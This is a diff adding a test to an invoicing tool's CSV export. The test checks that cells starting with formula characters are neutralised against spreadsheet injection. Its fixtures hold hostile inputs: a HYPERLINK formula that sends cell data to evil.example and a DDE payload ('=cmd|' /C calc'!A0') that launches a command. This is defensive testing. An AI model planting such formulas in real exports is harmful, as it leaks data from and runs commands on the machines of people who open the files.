@@ -136,3 +136,42 @@ def test_a_final_invoice_at_two_rates_exports_a_row_per_rate_and_posts_vat_per_r
     vat = {rate: realization.get(real, f"Liabilities:VAT:{rate}").balance.get_currency_units("EUR").number
            for rate in ("16", "19")}
     assert vat == {"16": Decimal("-960.00"), "19": Decimal("-760.00")}  # 320 + 960 - 320; 760
+
+
+HOSTILE_CLIENT = """\
+name: "=HYPERLINK(\\"https://evil.example/?\\"&A1,\\"Open\\")"
+address: [Torstraße 140, 10119 Berlin]
+country: DE
+vat_id: "+DE987654321"
+email: rechnungen@nordlicht.example
+"""
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(repo, tmp_path):
+    """OWASP CSV injection: text starting with = + - @ tab or CR gets a leading single quote; the signed amounts
+    of a credit note and of a reversal stay plain numbers a spreadsheet can sum."""
+    root = repo({"projects/nordlicht/client.yaml": HOSTILE_CLIENT, "projects/nordlicht/site.yaml": PROJECT})
+    assert run(root, "issue", "--date", "2026-02-10", "--no-pdf").code == 0
+    write(root, {"projects/nordlicht/site.yaml": PROJECT.replace("amount: 4000.00", "amount: 3000.00").replace(
+        "total: 10000.00\n", "")})
+    assert run(root, "issue", "--date", "2026-02-11", "--no-pdf").code == 0  # CN-2026-0001 for -1000.00 net
+    hostile = {"@SUM(1+1)": "-2+3", "\tcash": "\r=1+1", "-bank": "=cmd|' /C calc'!A0"}
+    for method, reference in hostile.items():
+        assert run(root, "pay", "INV-2026-0001", "1.00", "--date", "2026-02-12", "--method", method,
+                   "--reference", reference).code == 0, method
+    result = run(root, "export", "--format", "csv", "--date", "2026-03-01", "--out", str(tmp_path / "out"))
+    assert result.code == 0, result.err
+    docs = list(csv.DictReader((tmp_path / "out/documents.csv").open(newline="")))
+    assert {d["buyer"] for d in docs} == {"'=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")"}
+    assert {d["buyer_vat_id"] for d in docs} == {"'+DE987654321"}
+    credit = next(d for d in docs if d["number"] == "CN-2026-0001")
+    assert (credit["net"], credit["tax"], credit["total"]) == ("-1000.00", "-190.00", "-1190.00")
+    pays = list(csv.DictReader((tmp_path / "out/payments.csv").open(newline="")))
+    assert [(p["method"], p["reference"]) for p in pays] == [("'@SUM(1+1)", "'-2+3"), ("'\tcash", "'\r=1+1"),
+                                                             ("'-bank", "'=cmd|' /C calc'!A0")]
+    assert [p["amount"] for p in pays] == ["1.00", "1.00", "1.00"]
+    for name in ("documents.csv", "payments.csv"):
+        for row in csv.reader((tmp_path / "out" / name).open(newline="")):
+            for value in row:
+                assert not value.startswith(("=", "+", "@", "\t", "\r")), (name, value)
+                assert not value.startswith("-") or value[1:].replace(".", "").isdigit(), (name, value)
